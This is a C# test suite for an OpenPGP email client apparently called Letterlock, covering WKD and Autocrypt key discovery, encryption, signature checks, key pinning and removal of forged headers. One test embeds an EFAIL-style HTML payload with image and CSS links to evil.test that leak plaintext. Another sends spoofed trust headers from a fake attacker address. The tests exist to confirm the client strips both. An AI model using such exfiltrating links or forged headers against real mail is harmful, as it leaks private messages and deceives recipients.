using System.Text;
using Letterlock.Client.Discovery;
using Letterlock.Client.Mail;
using Letterlock.Client.Store;
using Letterlock.Client.Tests.Discovery;
using Letterlock.Client.Validation;
using Letterlock.OpenPgp;
using MimeKit;

namespace Letterlock.Client.Tests.Mail;

/// <summary>Sending and receiving with real GnuPG on the other side, keys discovered by WKD over HTTPS.</summary>
[Trait(TestCategory.Name, TestCategory.Peer)]
public sealed class MailProcessorTests : IAsyncLifetime
{
    private const string Marker = "Tangerine93";
    private readonly TempDir _dir = new();
    private readonly Gpg _gpg = new();
    private LocalStore _store = null!;
    private AccountRecord _alice = null!;
    private UnlockedKey _aliceKey = null!;
    private TestHttpsServer _server = null!;
    private HttpClient _http = null!;
    private string _bobFingerprint = null!;

    public async Task InitializeAsync()
    {
        _store = await TestStores.Create(_dir);
        _alice = await _store.Accounts.CreateAsync("alice@alpha.test", "Alice", new Uri("https://alpha.test/"));
        await AccountKeys.GenerateAsync(_store, _alice);
        _aliceKey = await AccountKeys.LoadOpenPgpAsync(_store, _alice.Id);
        _bobFingerprint = await _gpg.GenerateAsync("Bob <bob@beta.test>");
        await _gpg.ImportAsync(_aliceKey.Certificate.Export(armored: false));
        _server = await TestHttpsServer.StartAsync();
        _server.Serve($"openpgpkey.beta.test/.well-known/openpgpkey/beta.test/hu/{Wkd.HashLocalPart("bob")}", await _gpg.ExportAsync("bob@beta.test"));
        _http = TestHttpsServer.Client(_server.HostMap());
    }

    public async Task DisposeAsync()
    {
        _http.Dispose();
        await _server.DisposeAsync();
        _store.Dispose();
        _gpg.Dispose();
        _dir.Dispose();
    }

    private OutgoingMailProcessor Outgoing()
    {
        var options = new KeyDiscoveryOptions { HkpServers = [new Uri("hkps://keys.test")] };
        var discovery = new KeyDiscovery([new WkdKeySource(_http, options), new HkpKeySource(_http, options), new AutocryptKeySource(_store, _alice.Id)], options);
        return new OutgoingMailProcessor(_store, _alice, _aliceKey, new ContactKeyResolver(_store, _alice.Id, discovery));
    }

    private static byte[] Mime(string from, string to, string subject, string body, string? cc = null, string? extraHeaders = null) =>
        Encoding.UTF8.GetBytes(
            $"From: {from}\r\nTo: {to}\r\n" + (cc is null ? "" : $"Cc: {cc}\r\n") +
            $"Subject: {subject}\r\nDate: Tue, 01 Apr 2025 10:00:00 +0000\r\nMessage-ID: <{Guid.NewGuid():N}@alpha.test>\r\n" + (extraHeaders ?? "") +
            $"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n");

    [Fact]
    public async Task Mail_to_a_gpg_user_found_by_wkd_is_pgp_mime_that_gpg_decrypts_and_verifies()
    {
        var outcome = await Outgoing().SubmitAsync(Mime("Alice <alice@alpha.test>", "Bob <bob@beta.test>", $"Plans {Marker}", $"Meet at noon {Marker}."), ["bob@beta.test"]);
        Assert.Equal(SendStatus.Queued, outcome.Status);
        Assert.True(outcome.Encrypted);
        var job = Assert.Single(await _store.Jobs.ListAsync(QueuedMail.JobKind));
        var claimed = await _store.Jobs.ClaimAsync(QueuedMail.JobKind, TimeSpan.FromMinutes(1));
        var queued = QueuedMail.FromPayload(claimed!.Payload);
        Assert.Equal(["bob@beta.test"], queued.Recipients);
        Assert.Equal(job.Id, claimed.Id);

        var wire = Encoding.UTF8.GetString(queued.Message);
        Assert.DoesNotContain(Marker, wire, StringComparison.Ordinal);
        Assert.Contains("multipart/encrypted", wire, StringComparison.Ordinal);
        Assert.Contains("Autocrypt: addr=alice@alpha.test", wire, StringComparison.Ordinal);

        // gpg decrypts the encrypted part straight from the raw MIME.
        var parsed = await MimeMessage.LoadAsync(new MemoryStream(queued.Message));
        var encrypted = ((Multipart)parsed.Body!)[1] as MimePart;
        using var ciphertext = new MemoryStream();
        await encrypted!.Content!.DecodeToAsync(ciphertext);
        var (code, plaintext, status) = await _gpg.RunAsync(ciphertext.ToArray(), "--status-fd", "2", "--decrypt");
        Assert.True(code == 0, status);
        Assert.Contains("[GNUPG:] GOODSIG", status, StringComparison.Ordinal);
        Assert.Contains(_aliceKey.Fingerprint.Hex, status, StringComparison.Ordinal);
        var inner = Encoding.UTF8.GetString(plaintext);
        Assert.Contains($"Meet at noon {Marker}.", inner, StringComparison.Ordinal);
        Assert.Contains($"Subject: Plans {Marker}", inner, StringComparison.Ordinal);

        var contact = (await _store.Contacts.GetAsync(_alice.Id, "bob@beta.test"))!;
        Assert.Equal(KeyValidationLevel.Tofu, contact.KeyState.Level);
        Assert.Equal(_bobFingerprint, contact.KeyState.Pinned!.Fingerprint.Hex);
        var sent = outcome.SentCopy!;
        Assert.Equal($"Plans {Marker}", sent.Summary.Subject);
        Assert.Equal(EncryptionState.EndToEnd, sent.Summary.Security.Encryption);
        Assert.Contains("Letterlock-Encryption: end-to-end", Encoding.UTF8.GetString((await _store.Mail(_alice.Id).ReadBodyAsync(sent.Id))!), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bcc_recipients_get_separately_encrypted_copies()
    {
        using var carolGpg = new Gpg();
        await carolGpg.GenerateAsync("Carol <carol@gamma.test>");
        var carolCert = Certificate.Parse(await carolGpg.ExportAsync("carol@gamma.test"));
        await _store.Contacts.ObserveKeyAsync(_alice.Id, "carol@gamma.test",
            new ObservedKey(KeyFingerprint.Parse(carolCert.Fingerprint.Hex), carolCert.Export(armored: false), KeyOrigin.UserImport), TransparencyVerdict.Absent);

        var outcome = await Outgoing().SubmitAsync(Mime("alice@alpha.test", "bob@beta.test", "Hidden", "for two"), ["bob@beta.test", "carol@gamma.test"]);
        Assert.Equal(SendStatus.Queued, outcome.Status);
        Assert.Equal(2, outcome.Jobs.Count);
        var copies = new List<QueuedMail>();
        while (await _store.Jobs.ClaimAsync(QueuedMail.JobKind, TimeSpan.FromMinutes(1)) is { } job)
        {
            copies.Add(QueuedMail.FromPayload(job.Payload));
        }

        var bobCopy = copies.Single(c => c.Recipients.SequenceEqual(["bob@beta.test"]));
        var carolCopy = copies.Single(c => c.Recipients.SequenceEqual(["carol@gamma.test"]));
        Assert.DoesNotContain("carol", Encoding.UTF8.GetString(bobCopy.Message), StringComparison.OrdinalIgnoreCase);
        Assert.NotEqual(bobCopy.Message, carolCopy.Message);
    }

    [Fact]
    public async Task Without_a_key_the_policy_decides_and_a_changed_key_stops_the_send()
    {
        var plain = await Outgoing().SubmitAsync(Mime("alice@alpha.test", "dave@delta.test", "Hi", "no key here"), ["dave@delta.test"]);
        Assert.Equal(SendStatus.Queued, plain.Status);
        Assert.False(plain.Encrypted);
        var job = await _store.Jobs.ClaimAsync(QueuedMail.JobKind, TimeSpan.FromMinutes(1));
        var queued = QueuedMail.FromPayload(job!.Payload);
        Assert.Contains("no key here", Encoding.UTF8.GetString(queued.Message), StringComparison.Ordinal);
        Assert.Contains("Autocrypt: addr=alice@alpha.test", Encoding.UTF8.GetString(queued.Message), StringComparison.Ordinal);
        await _store.Jobs.CompleteAsync(job.Id);

        var strict = _alice with { Policy = EncryptionPolicy.EncryptedOnly };
        var refused = await new OutgoingMailProcessor(_store, strict, _aliceKey).SubmitAsync(
            Mime("alice@alpha.test", "dave@delta.test", "Hi", "again"), ["dave@delta.test", "alice@alpha.test"]);
        Assert.Equal(SendStatus.RefusedNoKey, refused.Status);
        Assert.Equal(["dave@delta.test"], refused.Recipients);

        // Bob's key comes by WKD and is pinned; then a different key shows up for him.
        Assert.True((await Outgoing().SubmitAsync(Mime("alice@alpha.test", "bob@beta.test", "x", "y"), ["bob@beta.test"])).Encrypted);
        await _store.Contacts.ObserveKeyAsync(_alice.Id, "bob@beta.test",
            new ObservedKey(KeyFingerprint.Parse(_aliceKey.Fingerprint.Hex), _aliceKey.Certificate.Export(armored: false), KeyOrigin.Hkp), TransparencyVerdict.Absent);
        var changed = await Outgoing().SubmitAsync(Mime("alice@alpha.test", "bob@beta.test", "x", "y"), ["bob@beta.test"]);
        Assert.Equal(SendStatus.RefusedChangedKey, changed.Status);
        Assert.Equal(["bob@beta.test"], changed.Recipients);

        var forged = await Outgoing().SubmitAsync(Mime("mallory@alpha.test", "bob@beta.test", "x", "y"), ["bob@beta.test"]);
        Assert.Equal(SendStatus.RefusedSender, forged.Status);
    }

    [Fact]
    public async Task Mail_from_gpg_shows_as_encrypted_and_validly_signed_and_forged_summary_headers_are_replaced()
    {
        // Alice learns Bob's key by WKD first (tofu).
        await Outgoing().SubmitAsync(Mime("alice@alpha.test", "bob@beta.test", "hello", "first"), ["bob@beta.test"]);
        var inner = Mime("Bob <bob@beta.test>", "Alice <alice@alpha.test>", $"Reply {Marker}", $"Signed and sealed {Marker}");
        var (code, armored, err) = await _gpg.RunAsync(inner, "--armor", "--sign", "--encrypt", "--local-user", "bob@beta.test", "--recipient", "alice@alpha.test");
        Assert.True(code == 0, err);
        var pgpMime = Encoding.UTF8.GetBytes(
            "From: Bob <bob@beta.test>\r\nTo: Alice <alice@alpha.test>\r\nSubject: ...\r\nDate: Tue, 01 Apr 2025 11:00:00 +0000\r\n" +
            "Letterlock-Encryption: forged\r\nMIME-Version: 1.0\r\n" +
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b1\"\r\n\r\n" +
            "--b1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n" +
            "--b1\r\nContent-Type: application/octet-stream\r\n\r\n" + Encoding.ASCII.GetString(armored) + "\r\n--b1--\r\n");

        var incoming = new IncomingMailProcessor(_store, _alice, _aliceKey);
        var result = await incoming.ProcessAsync(pgpMime);
        Assert.Equal(EncryptionState.EndToEnd, result.Security.Encryption);
        Assert.Equal(SignatureState.Valid, result.Security.Signature);
        Assert.Equal(KeyValidationLevel.Tofu, result.Security.SignerTrust);
        var stored = Encoding.UTF8.GetString((await _store.Mail(_alice.Id).ReadBodyAsync(result.Message.Id))!);
        Assert.True(stored.Contains($"Signed and sealed {Marker}", StringComparison.Ordinal), stored);
        Assert.Contains("Letterlock-Encryption: end-to-end", stored, StringComparison.Ordinal);
        var headers = (await MimeMessage.LoadAsync(new MemoryStream(Encoding.UTF8.GetBytes(stored)))).Headers;
        Assert.Equal($"valid; key={_bobFingerprint}; trust=tofu", headers["Letterlock-Signature"]);
        Assert.DoesNotContain("forged", stored, StringComparison.Ordinal);
        Assert.Equal(FolderRole.Inbox, (await _store.Mail(_alice.Id).GetFolderAsync(result.Message.Folder))!.Role);

        var plain = Mime("Mallory <mallory@evil.test>", "alice@alpha.test", "Trust me", "plain text",
            extraHeaders: "Letterlock-Encryption: end-to-end\r\nLetterlock-Signature: valid; trust=verified\r\n");
        var spoof = await incoming.ProcessAsync(plain);
        var spoofed = Encoding.UTF8.GetString((await _store.Mail(_alice.Id).ReadBodyAsync(spoof.Message.Id))!);
        Assert.Contains("Letterlock-Encryption: none", spoofed, StringComparison.Ordinal);
        Assert.Contains("Letterlock-Signature: none", spoofed, StringComparison.Ordinal);
        Assert.DoesNotContain("trust=verified", spoofed, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Decrypted_html_loses_its_remote_references_and_keeps_its_text()
    {
        // EFAIL's direct exfiltration and read receipts need the mail app to fetch a URL after decryption.
        string html = $"<html><body><p>Plan {Marker}</p><img src=\"https://evil.test/pixel?{Marker}\">" +
            "<div style=\"background:url(https://evil.test/bg)\">x</div><a href=\"https://example.org/\">link</a></body></html>";
        var inner = Encoding.UTF8.GetBytes(
            "From: Bob <bob@beta.test>\r\nTo: Alice <alice@alpha.test>\r\nSubject: html\r\nMIME-Version: 1.0\r\n" +
            "Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n");
        var (code, armored, err) = await _gpg.RunAsync(inner, "--armor", "--sign", "--encrypt", "--local-user", "bob@beta.test", "--recipient", "alice@alpha.test");
        Assert.True(code == 0, err);
        string envelope = "From: Bob <bob@beta.test>\r\nTo: Alice <alice@alpha.test>\r\nSubject: ...\r\nMIME-Version: 1.0\r\n" +
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b1\"\r\n\r\n" +
            "--b1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n" +
            "--b1\r\nContent-Type: application/octet-stream\r\n\r\n" + Encoding.ASCII.GetString(armored) + "\r\n--b1--\r\n";

        var incoming = new IncomingMailProcessor(_store, _alice, _aliceKey);
        var result = await incoming.ProcessAsync(Encoding.UTF8.GetBytes(envelope));
        Assert.Equal(EncryptionState.EndToEnd, result.Security.Encryption);
        var stored = await MimeMessage.LoadAsync(new MemoryStream((await _store.Mail(_alice.Id).ReadBodyAsync(result.Message.Id))!));
        Assert.Contains($"Plan {Marker}", stored.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("https://example.org/", stored.HtmlBody, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", stored.HtmlBody, StringComparison.Ordinal);

        // Mail that was never end-to-end encrypted is what its sender wrote: the mail app's own rules apply.
        var plain = await incoming.ProcessAsync(Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(inner).Replace("Subject: html", "Subject: plain html", StringComparison.Ordinal)));
        Assert.Equal(EncryptionState.None, plain.Security.Encryption);
        Assert.Contains("evil.test/pixel", Encoding.UTF8.GetString((await _store.Mail(_alice.Id).ReadBodyAsync(plain.Message.Id))!), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Two_letterlock_accounts_exchange_keys_by_autocrypt_and_read_each_other()
    {
        var bob = await _store.Accounts.CreateAsync("bob@beta.test", "Bob", null);
        await AccountKeys.GenerateAsync(_store, bob);
        var bobKey = await AccountKeys.LoadOpenPgpAsync(_store, bob.Id);

        // Bob writes first, in the clear, carrying his Autocrypt key.
        var hello = await new OutgoingMailProcessor(_store, bob, bobKey).SubmitAsync(Mime("bob@beta.test", "alice@alpha.test", "hi", "hello"), ["alice@alpha.test"]);
        Assert.Equal(SendStatus.Queued, hello.Status);
        Assert.False(hello.Encrypted);
        var first = QueuedMail.FromPayload((await _store.Jobs.ClaimAsync(QueuedMail.JobKind, TimeSpan.FromMinutes(1)))!.Payload);
        var received = await new IncomingMailProcessor(_store, _alice, _aliceKey).ProcessAsync(first.Message);
        Assert.Equal(KeyValidationLevel.Tofu, received.KeyValidation!.State.Level);

        // Alice answers encrypted (Bob's key from Autocrypt), Bob reads it decrypted and validly signed.
        var reply = await new OutgoingMailProcessor(_store, _alice, _aliceKey).SubmitAsync(
            Mime("alice@alpha.test", "bob@beta.test", $"Secret {Marker}", $"body {Marker}"), ["bob@beta.test"]);
        Assert.True(reply.Encrypted);
        var second = QueuedMail.FromPayload((await _store.Jobs.ClaimAsync(QueuedMail.JobKind, TimeSpan.FromMinutes(1)))!.Payload);
        var read = await new IncomingMailProcessor(_store, bob, bobKey).ProcessAsync(second.Message);
        Assert.Equal(EncryptionState.EndToEnd, read.Security.Encryption);
        Assert.Equal(SignatureState.Valid, read.Security.Signature);
        Assert.Equal(KeyValidationLevel.Tofu, read.Security.SignerTrust);
        Assert.Equal($"Secret {Marker}", read.Message.Summary.Subject);
    }
}
